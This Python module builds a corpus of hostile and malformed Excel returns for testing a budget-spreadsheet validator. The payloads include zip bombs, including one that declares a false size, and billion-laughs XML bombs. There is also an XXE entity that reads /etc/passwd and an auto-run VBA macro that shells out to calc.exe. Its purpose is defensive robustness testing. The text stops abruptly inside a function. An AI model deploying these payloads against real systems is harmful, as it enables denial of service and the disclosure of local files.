"""The hostile and broken inputs of tests/test_hostile.py, built from a real template.

Every case but two is generated at test time (into the test's tmp_path) from a template that
jixiao itself writes, filled with a small clean return: each case changes one thing, so its
findings are the case's alone. Write them all into a folder to look at them by hand:

    .venv/bin/python tests/data/hostile/make_corpus.py OUT_DIR

Two cases cannot be generated with the project's own dependencies and are committed, made from
the same clean return (regenerate with `--binaries`, which needs LibreOffice's `soffice` on the
PATH and msoffcrypto-tool importable, e.g. `pip install --target /tmp/msoff msoffcrypto-tool`
and PYTHONPATH=/tmp/msoff — msoffcrypto-tool is not a dependency of jixiao):

- legacy.xls — `soffice --headless --convert-to xls` of the clean return (Excel 97-2003 BIFF8).
- encrypted.xlsx — the clean return encrypted by msoffcrypto-tool (ECMA-376 agile encryption,
  password "jixiao2023"), an OLE2 file with EncryptionInfo and EncryptedPackage streams, as
  Excel writes when a workbook is saved with a password to open.

The zip bombs never materialise their content: their deflate streams are built from one
full-flushed segment repeated (zlib.Z_FULL_FLUSH resets the compressor, so the segment is
self-contained), so a 1 GiB sheet costs ~1 MB of file and no memory.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

HERE = Path(__file__).resolve().parent
LEGACY_XLS = HERE / "legacy.xls"
ENCRYPTED_XLSX = HERE / "encrypted.xlsx"
PASSWORD = "jixiao2023"

DEPT = "上海市示例主管部门"
YEAR = 2023
UNIT_CODE, UNIT_NAME = "310001", "上海市欧美同学会"
SHEET_PROJECTS, SHEET_INDICATORS = "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"
GIB = 1024 ** 3


# --- the clean return every case starts from ----------------------------------------------------

def _project(name: str, total: str, grant: str, other: str, goal: str) -> dict:
    """A clean project (tests/helpers.clean_project) with its own name, amounts and goal."""
    from helpers import clean_project   # tests/ is on sys.path whenever the corpus is built

    return clean_project(name, 年度资金申请总额=total, 当年财政拨款=grant, 年度其他资金=other, 年度总体目标=goal)


CLEAN_DATA = {"projects": [
    _project("业务培训项目", "120000.00", "100000.00", "20000.00",
             "全年举办业务培训12次，培训基层人员600人次，提升业务能力。"),
    _project("会员服务项目", "80000.00", "80000.00", "0.00",
             "全年举办会员服务活动12次，服务会员600人次，提升会员满意度。"),
]}

# Where the clean return's values sit (template layout: header on row 2, data from row 3).
PROJECT_ROWS = (3, 4)
COL = {"项目名称": "A", "项目性质": "B", "项目类别": "C", "计划开始日期": "D", "计划完成日期": "E",
       "项目资金总额": "F", "项目财政资金": "G", "项目其他资金": "H", "年度资金申请总额": "I",
       "当年财政拨款": "J", "上年结转资金": "K", "年度其他资金": "L", "项目总目标": "M", "年度总体目标": "N"}
ICOL = {"项目名称": "A", "一级指标": "B", "二级指标": "C", "三级指标": "D", "运算符": "E", "指标值": "F",
        "计量单位": "G", "指标说明": "H"}


def write_template(out_dir: Path, *, code: str = UNIT_CODE, name: str = UNIT_NAME, dept: str = DEPT,
                   year: int = YEAR, budget: list[dict] | None = None) -> Path:
    """One template made by jixiao itself for one unit (other units, years, departments)."""
    from jixiao.roster import BudgetRow, Roster, Unit
    from jixiao.spec import load_form
    from jixiao.template import write_templates

    roster = Roster([Unit(code, name)])
    records = load_form().projects          # budget rows are given by label, as a budget file has them
    prefill = ({code: [BudgetRow(code, {records.by_label(k).id: v for k, v in row.items()}) for row in budget]}
               if budget else None)
    (path,) = write_templates(roster, dept, year, out_dir, budget=prefill, deadline=dt.date(year, 3, 31))
    return path


def fill(template: Path, out: Path, data: dict | None = None) -> Path:
    """A unit's return: the template filled the way a careful user types (jixiao.samples)."""
    from jixiao.samples import fill_template
    from jixiao.spec import load_form

    return fill_template(template, data or CLEAN_DATA, out, load_form())


# --- zip-level editing ---------------------------------------------------------------------------

def read_members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


def rewrite_zip(src: Path, dst: Path, edits: dict[str, Callable[[bytes], bytes] | bytes | None] | None = None,
                add: dict[str, bytes] | None = None) -> Path:
    """Copy src to dst member by member: edits[name] is a function of the old bytes, new bytes,
    or None to drop the member; add holds new members, written last."""
    edits = edits or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename in edits:
                edit = edits[info.filename]
                if edit is None:
                    continue
                data = edit(data) if callable(edit) else edit
            zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return dst


def append_rows(xml: bytes, rows: bytes) -> bytes:
    return xml.replace(b"</sheetData>", rows + b"</sheetData>", 1)


def set_cell(xml: bytes, ref: str, cell: bytes) -> bytes:
    """Replace cell `ref` (which must exist) with the given <c> element."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"(?:[^>]*/>|[^>]*>.*?</c>)', re.S)
    new, n = pattern.subn(lambda _m: cell, xml, count=1)
    if n != 1:
        raise ValueError(f"cell {ref} not found")
    return new


def inline(ref: str, text: str) -> bytes:
    from xml.sax.saxutils import escape

    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(text)}</t></is></c>'.encode()


@dataclass
class RawMember:
    """A zip member given as raw deflate bytes, with sizes and CRC as the directory will declare them."""
    name: str
    raw: bytes
    file_size: int
    crc: int
    method: int = zipfile.ZIP_DEFLATED


def deflated(name: str, data: bytes) -> RawMember:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return RawMember(name, c.compress(data) + c.flush(), len(data), zlib.crc32(data))


def write_raw_zip(dst: Path, members: list[RawMember]) -> Path:
    """A zip written by hand, so that a member may declare any size and CRC (zip64 not needed:
    every declared size stays below 4 GiB)."""
    out = io.BytesIO()
    central = []
    for m in members:
        name = m.name.encode("utf-8")
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x800, m.method, 0, 0x21,
                              m.crc, len(m.raw), m.file_size, len(name), 0))
        out.write(name)
        out.write(m.raw)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x800, m.method, 0, 0x21,
                                   m.crc, len(m.raw), m.file_size, len(name), 0, 0, 0, 0, 0, offset) + name)
    start = out.tell()
    for entry in central:
        out.write(entry)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central),
                          out.tell() - start, start, 0))
    dst.write_bytes(out.getvalue())
    return dst


def repeated_deflate(prefix: bytes, unit: bytes, count: int, suffix: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of prefix + unit × count + suffix, never holding more than one unit:
    (stream, uncompressed size, CRC-32)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    segment = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(unit) + c.flush(zlib.Z_FULL_FLUSH)
    if segment != again:
        raise RuntimeError("zlib did not repeat a full-flushed segment")
    tail = c.compress(suffix) + c.flush(zlib.Z_FINISH)
    crc = zlib.crc32(prefix)
    for _ in range(count):
        crc = zlib.crc32(unit, crc)
    crc = zlib.crc32(suffix, crc)
    return head + segment * count + tail, len(prefix) + len(unit) * count + len(suffix), crc


def _bomb(base: Path, out: Path, size: int, lie: bool) -> Path:
    """The clean return with 项目信息's XML replaced by `size` bytes of whitespace inside sheetData."""
    members = read_members(base)
    prefix = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
              b'spreadsheetml/2006/main"><sheetData>')
    suffix = b"</sheetData></worksheet>"
    unit = b" " * (1024 * 1024)
    count = (size - len(prefix) - len(suffix)) // len(unit)
    raw, file_size, crc = repeated_deflate(prefix, unit, count, suffix)
    if lie:
        # Declare what the original sheet declared; the CRC is that of the declared prefix, so a
        # reader that stops at the declared size sees a consistent (truncated) member.
        declared = len(members[SHEET_PROJECTS])
        first = prefix + unit
        file_size, crc = declared, zlib.crc32(first[:declared])
    entries = []
    for name, data in members.items():
        entries.append(RawMember(name, raw, file_size, crc) if name == SHEET_PROJECTS else deflated(name, data))
    return write_raw_zip(out, entries)


# --- the cases ---------------------------------------------------------------------------------------

@dataclass
class Inputs:
    """What the builders start from: the clean return and its template (both real jixiao output)."""
    base: Path          # the clean return of unit 310001
    template: Path      # its template
    work: Path          # scratch folder for intermediate files


def _openpyxl_edit(base: Path, out: Path, edit: Callable) -> Path:
    import openpyxl

    wb = openpyxl.load_workbook(base)
    edit(wb)
    wb.save(out)
    return out


def case_empty(i: Inputs, out: Path) -> Path:
    out.write_bytes(b"")
    return out


def case_truncated(i: Inputs, out: Path) -> Path:
    data = i.base.read_bytes()
    out.write_bytes(data[: len(data) // 2])
    return out


def case_csv(i: Inputs, out: Path) -> Path:
    text = "项目名称,项目性质,项目类别,年度资金申请总额\r\n业务培训项目,经常性专项业务费,特定目标类,120000.00\r\n"
    out.write_bytes(text.encode("gb18030"))        # as Excel on Chinese Windows saves CSV
    return out


def case_html(i: Inputs, out: Path) -> Path:
    out.write_text('<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8">'
                   "</head><body><table><tr><td>项目名称</td><td>项目性质</td></tr>"
                   "<tr><td>业务培训项目</td><td>经常性专项业务费</td></tr></table></body></html>",
                   encoding="utf-8")
    return out


def case_pdf(i: Inputs, out: Path) -> Path:
    out.write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    return out


def case_docx(i: Inputs, out: Path) -> Path:
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"/>')
        zf.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.'
                    'org/wordprocessingml/2006/main"><w:body/></w:document>')
    return out


def case_ods(i: Inputs, out: Path) -> Path:
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:'
                    'tc:opendocument:xmlns:office:1.0"/>')
    return out


def case_legacy_xls(i: Inputs, out: Path) -> Path:
    shutil.copy(LEGACY_XLS, out)
    return out


def case_encrypted(i: Inputs, out: Path) -> Path:
    shutil.copy(ENCRYPTED_XLSX, out)
    return out


def case_macro(i: Inputs, out: Path) -> Path:
    """An .xlsm: a vbaProject.bin part (an OLE2 blob; never run, never even opened), the
    macro-enabled content type and the relationship Excel writes."""
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Attribute VB_Name = \"Module1\"\nSub AutoOpen()\n" \
          b"  Shell \"calc.exe\"\nEnd Sub\n"

    def content_types(xml: bytes) -> bytes:
        xml = xml.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
        return xml.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
                                        b'vbaProject"/></Types>')

    def rels(xml: bytes) -> bytes:
        return xml.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                                                b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                                                b"</Relationships>")

    return rewrite_zip(i.base, out, {"[Content_Types].xml": content_types, "xl/_rels/workbook.xml.rels": rels},
                       add={"xl/vbaProject.bin": vba})


def case_zip_bomb(i: Inputs, out: Path) -> Path:
    """项目信息 declares and inflates to 1 GiB (the file is ~1 MB)."""
    return _bomb(i.base, out, GIB, lie=False)


def case_zip_bomb_ratio(i: Inputs, out: Path) -> Path:
    """200 MiB declared honestly: under the total limit, but 1000× compression."""
    return _bomb(i.base, out, 200 * 1024 * 1024, lie=False)


def case_zip_bomb_lying(i: Inputs, out: Path) -> Path:
    """项目信息 declares its original size but its deflate stream inflates to 1 GiB."""
    return _bomb(i.base, out, GIB, lie=True)


LAUGHS = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [\n <!ENTITY lol "lol">\n'
          + "".join(f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n' for n in range(1, 10))
          + ']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
          "<si><t>&lol9;</t></si></sst>")


def _with_shared_strings(base: Path, out: Path, sst: bytes, cell_ref: str = "M3") -> Path:
    """The clean return with a sharedStrings part (openpyxl writes inline strings) and one
    input cell (项目总目标 of the first project) that uses its first string."""
    def content_types(xml: bytes) -> bytes:
        if b"sharedStrings" in xml:
            return xml
        return xml.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')

    def rels(xml: bytes) -> bytes:
        if b"sharedStrings" in xml:
            return xml
        return xml.replace(b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/'
                                                b'officeDocument/2006/relationships/sharedStrings" '
                                                b'Target="sharedStrings.xml"/></Relationships>')

    def sheet(xml: bytes) -> bytes:
        row = int(re.sub(r"\D", "", cell_ref))
        pattern = re.compile(rb'(<row r="' + str(row).encode() + rb'"[^>]*>)')
        return pattern.sub(lambda m: m[1] + f'<c r="{cell_ref}" t="s"><v>0</v></c>'.encode(), xml, count=1) \
            if f'r="{cell_ref}"'.encode() not in xml else set_cell(xml, cell_ref, f'<c r="{cell_ref}" t="s"><v>0</v></c>'.encode())

    return rewrite_zip(base, out, {"[Content_Types].xml": content_types, "xl/_rels/workbook.xml.rels": rels,
                                   SHEET_PROJECTS: sheet}, add={"xl/sharedStrings.xml": sst})


def case_xml_bomb(i: Inputs, out: Path) -> Path:
    """Billion laughs: 10^9 × "lol" from a 1 KB sharedStrings.xml."""
    return _with_shared_strings(i.base, out, LAUGHS.encode())


def case_xxe(i: Inputs, out: Path) -> Path:
    """An external entity: a parser that resolves it would read /etc/passwd into a cell."""
    sst = ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;</t></si></sst>')
    return _with_shared_strings(i.base, out, sst.encode())


def case_xml_bomb_unused_part(i: Inputs, out: Path) -> Path:
    """Billion laughs in a part the reader itself never needs (docProps/app.xml), in a return
    whose reshaped columns make the annotated copy go through openpyxl on the original file."""
    moved = case_columns_moved(i, i.work / "moved_for_bomb.xlsx")
    return rewrite_zip(moved, out, {"docProps/app.xml": LAUGHS.replace("sst", "Properties").encode()})


def case_sst_count(i: Inputs, out: Path) -> Path:
    """A sharedStrings part that declares 4 billion strings (calamine would reserve 96 GB)."""
    sst = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
           '2006/main" count="4000000000" uniqueCount="4000000000"><si><t>提升全年培训工作的质量和覆盖面。</t></si></sst>')
    return _with_shared_strings(i.base, out, sst.encode())


def case_million_rows(i: Inputs, out: Path) -> Path:
    """项目信息 with a value in column P on every row down to 1,048,576 (a column filled to the
    bottom), streamed into the zip: ~50 MB of XML, ~3 MB of file."""
    members = read_members(i.base)
    xml = members[SHEET_PROJECTS]
    head, tail = xml.split(b"</sheetData>", 1)
    last = max(int(r) for r in re.findall(rb'<row r="(\d+)"', head))
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in members.items():
            if name != SHEET_PROJECTS:
                zf.writestr(name, data)
        with zf.open(SHEET_PROJECTS, "w", force_zip64=True) as fh:
            fh.write(head)
            chunk = []
            for r in range(last + 1, 1_048_577):
                chunk.append(b'<row r="%d"><c r="P%d"><v>0</v></c></row>' % (r, r))
                if len(chunk) == 50_000:
                    fh.write(b"".join(chunk))
                    chunk = []
            fh.write(b"".join(chunk))
            fh.write(b"</sheetData>" + tail)
    return out


def case_far_cell(i: Inputs, out: Path) -> Path:
    """One cell at XFD1048576, the last cell of a sheet: 5 bytes of data, and a reader that
    allocates the used range densely asks for 16384 × 1048576 cells (python-calamine aborts)."""
    return rewrite_zip(i.base, out, {SHEET_PROJECTS: lambda x: append_rows(
        x, b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')})


def case_far_column(i: Inputs, out: Path) -> Path:
    """Something typed in column XFD of a project row."""
    return rewrite_zip(i.base, out, {SHEET_PROJECTS: lambda x: re.sub(
        rb'(<row r="3"[^>]*>.*?)(</row>)', lambda m: m[1] + '<c r="XFD3" t="inlineStr"><is><t>备注</t></is></c>'.encode() + m[2],
        x, count=1, flags=re.S)})


def case_no_positions(i: Inputs, out: Path) -> Path:
    """The first project's row written without r attributes (the standard allows it; some tools
    do it): each cell's position follows from the one before, empty cells included, and a note
    after 70 more empty cells lands in column CG, beyond the 64 columns read."""
    def strip(xml: bytes) -> bytes:
        m = re.search(rb'<row r="3"([^>]*)>(.*?)</row>', xml, re.S)
        cells = {c[1].decode(): c[0] for c in re.finditer(rb'<c r="([A-Z]+)3"[^>]*?(?:/>|>.*?</c>)', m[2], re.S)}
        row = []
        for n in range(14):
            letter = chr(ord("A") + n)
            row.append(re.sub(rb' r="[A-Z]+3"', b"", cells[letter]) if letter in cells else b"<c/>")
        row.append(b"<c/>" * 70 + '<c t="inlineStr"><is><t>备注：见附件</t></is></c>'.encode())
        return xml[:m.start()] + b"<row" + m[1] + b">" + b"".join(row) + b"</row>" + xml[m.end():]

    return rewrite_zip(i.base, out, {SHEET_PROJECTS: strip})


def case_utf16_sheet(i: Inputs, out: Path) -> Path:
    def to_utf16(xml: bytes) -> bytes:
        text = xml.decode("utf-8")
        if not text.startswith("<?xml"):
            text = '<?xml version="1.0" encoding="UTF-16"?>' + text
        return b"\xff\xfe" + text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le")

    return rewrite_zip(i.base, out, {SHEET_PROJECTS: to_utf16})


def case_broken_sheet_xml(i: Inputs, out: Path) -> Path:
    """The zip is sound, 项目信息's XML is cut off in the middle of a cell."""
    return rewrite_zip(i.base, out, {SHEET_PROJECTS: lambda x: x[: x.index(b"</sheetData>") - 40]})


def case_duplicate_member(i: Inputs, out: Path) -> Path:
    """Two members named xl/worksheets/sheet2.xml: which one a reader takes is up to the reader."""
    import warnings

    shutil.copy(i.base, out)
    other = read_members(i.base)[SHEET_PROJECTS].replace("业务培训项目".encode(), "另一份数据".encode())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")          # zipfile warns about the duplicate name
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr(SHEET_PROJECTS, other)
    return out


def case_other_unit(i: Inputs, out: Path) -> Path:
    """The template of a unit that is not on the roster, filled."""
    template = write_template(i.work / "other_unit", code="310099", name="上海市某某协会")
    return fill(template, out)


def case_other_unit_name(i: Inputs, out: Path) -> Path:
    """Unit 310001's code with another unit's name (a template made for a stale roster)."""
    template = write_template(i.work / "other_name", code=UNIT_CODE, name="上海市欧美同学会（旧称）")
    return fill(template, out)


def case_other_units_template(i: Inputs, out: Path) -> Path:
    """Unit 310002's template, filled and sent under unit 310001's file name."""
    template = write_template(i.work / "other_template", code="310002", name="上海市科学技术协会")
    return fill(template, out)


def case_other_year(i: Inputs, out: Path) -> Path:
    template = write_template(i.work / "other_year", year=2022)
    return fill(template, out)


def case_other_dept(i: Inputs, out: Path) -> Path:
    template = write_template(i.work / "other_dept", dept="上海市另一主管部门")
    return fill(template, out)


def _meta_member(members: dict[str, bytes]) -> str:
    workbook = members["xl/workbook.xml"].decode()
    rels = members["xl/_rels/workbook.xml.rels"].decode()
    rid = re.search(r'<sheet [^>]*name="_meta"[^>]*r:id="(rId\d+)"', workbook)[1]
    target = re.search(r'Target="([^"]+)" Id="' + rid + '"|Id="' + rid + '"[^>]*Target="([^"]+)"', rels)
    return (target[1] or target[2]).lstrip("/")


def case_meta_deleted(i: Inputs, out: Path) -> Path:
    """_meta removed at the zip level: its sheet entry, relationship, content type and part."""
    members = read_members(i.base)
    part = _meta_member(members)
    return rewrite_zip(i.base, out, {
        "xl/workbook.xml": lambda x: re.sub(rb'<sheet [^>]*name="_meta"[^>]*/>', b"", x),
        "xl/_rels/workbook.xml.rels": lambda x: re.sub(rb'<Relationship [^>]*' + part.split("/")[-1].encode()
                                                       + rb'"[^>]*/>', b"", x),
        "[Content_Types].xml": lambda x: re.sub(rb'<Override PartName="/' + part.encode() + rb'"[^>]*/>', b"", x),
        part: None})


def case_meta_edited(i: Inputs, out: Path) -> Path:
    """_meta's 年度 changed from 2023 to 2024 in the XML (last year's template passed off as new)."""
    part = _meta_member(read_members(i.base))
    return rewrite_zip(i.base, out, {part: lambda x: x.replace(b"<t>2023</t>", b"<t>2024</t>", 1)})


BUDGET = [{"项目名称": "业务培训项目", "项目性质": "经常性专项业务费", "项目类别": "特定目标类",
           "年度资金申请总额": "120000.00", "当年财政拨款": "100000.00", "上年结转资金": "0.00",
           "年度其他资金": "20000.00"}]


def _budget_return(i: Inputs, out: Path) -> Path:
    from decimal import Decimal

    budget = [{k: (Decimal(v) if k.endswith(("总额", "拨款", "资金")) else v) for k, v in row.items()}
              for row in BUDGET]
    template = write_template(i.work / "budget", budget=budget)
    return fill(template, out)


def case_prefill_changed(i: Inputs, out: Path) -> Path:
    """Sheet protection removed (the <sheetProtection> element deleted, as free tools do) and
    the prefilled 当年财政拨款 raised from 100,000.00 to 150,000.00 (and the total with it)."""
    filled = _budget_return(i, i.work / "budget_filled.xlsx")

    def edit(xml: bytes) -> bytes:
        xml = re.sub(rb"<sheetProtection\b[^>]*/>", b"", xml)
        xml = set_cell(xml, "J3", b'<c r="J3" t="n"><v>150000</v></c>')
        return set_cell(xml, "I3", b'<c r="I3" t="n"><v>170000</v></c>')

    return rewrite_zip(filled, out, {SHEET_PROJECTS: edit})


def case_prefill_deleted(i: Inputs, out: Path) -> Path:
    """The prefilled project's row emptied (protection removed first)."""
    filled = _budget_return(i, i.work / "budget_filled2.xlsx")

    def edit(wb):
        ws = wb["项目信息"]
        ws.protection.sheet = False
        for col in COL.values():
            ws[f"{col}3"].value = None
        wi = wb["绩效指标"]
        for row in wi.iter_rows(min_row=3):
            if row[0].value == "业务培训项目":
                for c in row:
                    c.value = None

    return _openpyxl_edit(filled, out, edit)


def case_sheet_renamed(i: Inputs, out: Path) -> Path:
    return _openpyxl_edit(i.base, out, lambda wb: setattr(wb["项目信息"], "title", "项目信息表"))


def case_sheet_deleted(i: Inputs, out: Path) -> Path:
    return _openpyxl_edit(i.base, out, lambda wb: wb.remove(wb["绩效指标"]))


def case_sheets_reordered(i: Inputs, out: Path) -> Path:
    def edit(wb):
        wb.move_sheet("绩效指标", offset=-2)         # 绩效指标 first
        wb.move_sheet("_meta", offset=-3)

    return _openpyxl_edit(i.base, out, edit)


def case_header_changed(i: Inputs, out: Path) -> Path:
    return _openpyxl_edit(i.base, out, lambda wb: setattr(wb["项目信息"]["J2"], "value", "财政拨款"))


def case_columns_moved(i: Inputs, out: Path) -> Path:
    """项目性质 and 项目类别 swapped, header and data alike (protection removed first)."""
    def edit(wb):
        ws = wb["项目信息"]
        ws.protection.sheet = False
        for row in range(2, 5):
            b, c = ws[f"B{row}"], ws[f"C{row}"]
            b.value, c.value = c.value, b.value

    return _openpyxl_edit(i.base, out, edit)


def case_merged_cells(i: Inputs, out: Path) -> Path:
    """Both projects are 经常性专项业务费, so the user merged B3:B4: B4 is now empty."""
    return _openpyxl_edit(i.base, out, lambda wb: wb["项目信息"].merge_cells("B3:B4"))


def case_hidden_rows_cols(i: Inputs, out: Path) -> Path:
    """The second project's row and the 指标说明 column of 绩效指标 hidden, both holding data."""
    def edit(wb):
        wb["项目信息"].row_dimensions[4].hidden = True
        wi = wb["绩效指标"]
        wi["H3"].value = "按培训签到表统计"
        wi.column_dimensions["H"].hidden = True

    return _openpyxl_edit(i.base, out, edit)


def case_formulas(i: Inputs, out: Path) -> Path:
    """当年财政拨款 as a formula with its cached value (as Excel saves it), 年度资金申请总额 as a
    formula without one (as a library writes it)."""
    def edit(xml: bytes) -> bytes:
        xml = set_cell(xml, "J3", b'<c r="J3"><f>100000*1</f><v>100000</v></c>')
        return set_cell(xml, "I4", b"<c r=\"I4\"><f>J4+K4+L4</f></c>")

    return rewrite_zip(i.base, out, {SHEET_PROJECTS: edit})


def case_external_link(i: Inputs, out: Path) -> Path:
    """当年财政拨款 linked to another workbook: =[1]Sheet1!$B$2, with its cached value and the
    externalLink part Excel writes."""
    link = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.'
            b'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/>'
            b'</sheetNames><sheetDataSet><sheetData sheetId="0"><row r="2"><cell r="B2"><v>100000</v></cell>'
            b"</row></sheetData></sheetDataSet></externalBook></externalLink>")
    link_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                 'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                 'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
                 'Target="file:///C:/预算/2023年预算.xlsx" TargetMode="External"/></Relationships>').encode()

    def workbook(xml: bytes) -> bytes:
        return xml.replace(b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdExt1"/>'
                                         b"</externalReferences>", 1)

    def rels(xml: bytes) -> bytes:
        return xml.replace(b"</Relationships>", b'<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.'
                                                b'org/officeDocument/2006/relationships/externalLink" '
                                                b'Target="externalLinks/externalLink1.xml"/></Relationships>')

    def content_types(xml: bytes) -> bytes:
        return xml.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
                                        b'"application/vnd.openxmlformats-officedocument.spreadsheetml.'
                                        b'externalLink+xml"/></Types>')

    return rewrite_zip(i.base, out, {
        "xl/workbook.xml": workbook, "xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": content_types,
        SHEET_PROJECTS: lambda x: set_cell(x, "J3", b'<c r="J3"><f>[1]Sheet1!$B$2</f><v>100000</v></c>')},
        add={"xl/externalLinks/externalLink1.xml": link,
             "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


def case_amount_text(i: Inputs, out: Path) -> Path:
    """Amounts typed as text: "100,000.00元" and full-width "２００００" (both readable) and
    "七十万" (not a number)."""
    def edit(xml: bytes) -> bytes:
        xml = set_cell(xml, "J3", inline("J3", "100,000.00元"))
        xml = set_cell(xml, "L3", inline("L3", "２００００"))
        return set_cell(xml, "J4", inline("J4", "七十万"))

    return rewrite_zip(i.base, out, {SHEET_PROJECTS: edit})


def case_excel_errors(i: Inputs, out: Path) -> Path:
    """Error values pasted as values (no formula behind them): #REF! in 当年财政拨款 and
    #DIV/0! in the 指标值 of 培训合格率."""
    return rewrite_zip(i.base, out, {
        SHEET_PROJECTS: lambda x: set_cell(x, "J3", b'<c r="J3" t="e"><v>#REF!</v></c>'),
        SHEET_INDICATORS: lambda x: set_cell(x, "F5", b'<c r="F5" t="e"><v>#DIV/0!</v></c>')})


TEXT_DATES = ("2023-01-01", "2023/1/1", "2023年1月1日", "20230101")


def case_text_dates(i: Inputs, out: Path) -> Path:
    """计划开始日期 pasted as text in every common form (four projects)."""
    data = {"projects": [dict(CLEAN_DATA["projects"][0], 项目名称=f"业务培训项目{n}") for n in range(1, 5)]}
    filled = fill(i.template, i.work / "dates.xlsx", data)

    def edit(xml: bytes) -> bytes:
        for n, text in enumerate(TEXT_DATES):
            xml = set_cell(xml, f"D{3 + n}", inline(f"D{3 + n}", text))
        return xml

    return rewrite_zip(filled, out, {SHEET_PROJECTS: edit})


def case_date_number(i: Inputs, out: Path) -> Path:
    """20230101 typed as a number (no date format): not a date serial."""
    return rewrite_zip(i.base, out, {SHEET_PROJECTS: lambda x: set_cell(x, "D3", b'<c r="D3" t="n"><v>20230101</v></c>')})


def case_date1904(i: Inputs, out: Path) -> Path:
    """The 1904 date system (old Mac Excel): date1904 set and every date serial 1462 days smaller,
    so that the dates are still 2023-01-01 and 2023-12-31."""
    def sheet(xml: bytes) -> bytes:
        return re.sub(rb'(<c r="[DE]\d+" s="\d+" t="n"><v>)(\d+)(</v>)',
                      lambda m: m[1] + str(int(m[2]) - 1462).encode() + m[3], xml)

    def workbook(xml: bytes) -> bytes:
        return re.sub(rb"<workbookPr\b[^>]*?/>", b'<workbookPr date1904="1"/>', xml, count=1)

    return rewrite_zip(i.base, out, {"xl/workbook.xml": workbook, SHEET_PROJECTS: sheet})


def case_spaces(i: Inputs, out: Path) -> Path:
    """Leading/trailing spaces, non-breaking spaces (U+00A0) and ideographic spaces (U+3000)
    around code-list values, a project name and an amount typed as text."""
    def projects(xml: bytes) -> bytes:
        xml = set_cell(xml, "B3", inline("B3", "\u00a0经常性专项业务费 "))
        xml = set_cell(xml, "C3", inline("C3", " 特定目标类\u3000"))
        xml = set_cell(xml, "A4", inline("A4", "会员服务项目\u00a0"))
        return set_cell(xml, "J3", inline("J3", "\u00a0100000 "))

    def indicators(xml: bytes) -> bytes:
